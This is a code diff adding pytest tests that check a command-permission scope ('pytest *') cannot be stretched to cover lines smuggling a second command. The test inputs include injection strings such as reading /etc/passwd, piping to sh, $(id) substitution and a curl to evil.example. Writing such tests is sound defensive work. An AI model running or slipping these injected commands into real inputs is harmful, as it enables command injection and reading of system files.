@@ -294,6 +294,32 @@ def test_no_command_of_a_criterion_runs_that_somebody_set_without_the_right(
     assert seen.commands == []
 
 
+@pytest.mark.parametrize(
+    "line",
+    [
+        "pytest -q; cat /etc/passwd", "pytest -q && curl evil.example", "pytest -q | sh", "pytest $(id)", "pytest `id`",
+        "pytest -q\nid", "pytest -q > ../out", "pytest -q & id", "pytest <(id)", "pytest -q || ((x = a[$(id)]))",
+        "pytest ${HOME}", "pytest *", "env pytest -q", "pytest -q #",
+    ],
+)  # fmt: skip
+def test_a_right_to_a_command_covers_no_line_that_holds_another_one(ledger: Ledger, line: str) -> None:
+    programs = Programs(ledger)
+    programs.create("human", "ann", {"permissions": ["configure", "machine:command(pytest *)"]})
+    programs.create("human", "bob", {"permissions": ["configure", "machine:command"]})
+    task = {"title": "T", "spec": {"successCriteria": [{"type": "command", "command": line}]}}
+    with pytest.raises(NotAllowed, match="successCriteria"):
+        pytest.fail(f"made {programs.acting_as('ann').create('task', 'direct', task).name}")
+    programs.acting_as("bob").create("task", "any", task)
+
+
+@pytest.mark.parametrize("command", ["pytest -q", "pytest -q && pytest 'tests/a b'", ["pytest", "-q", "; id"]])
+def test_a_right_to_a_command_covers_lines_of_nothing_else(ledger: Ledger, command: Any) -> None:
+    programs = Programs(ledger)
+    programs.create("human", "ann", {"permissions": ["configure", "machine:command(pytest *)"]})
+    task = {"title": "T", "spec": {"successCriteria": [{"type": "command", "command": command}]}}
+    assert programs.acting_as("ann").create("task", "direct", task).unvouched == ()
+
+
 def test_a_task_hands_no_folder_on_that_somebody_set_without_the_right(
     ledger: Ledger, monkeypatch: pytest.MonkeyPatch
 ) -> None:
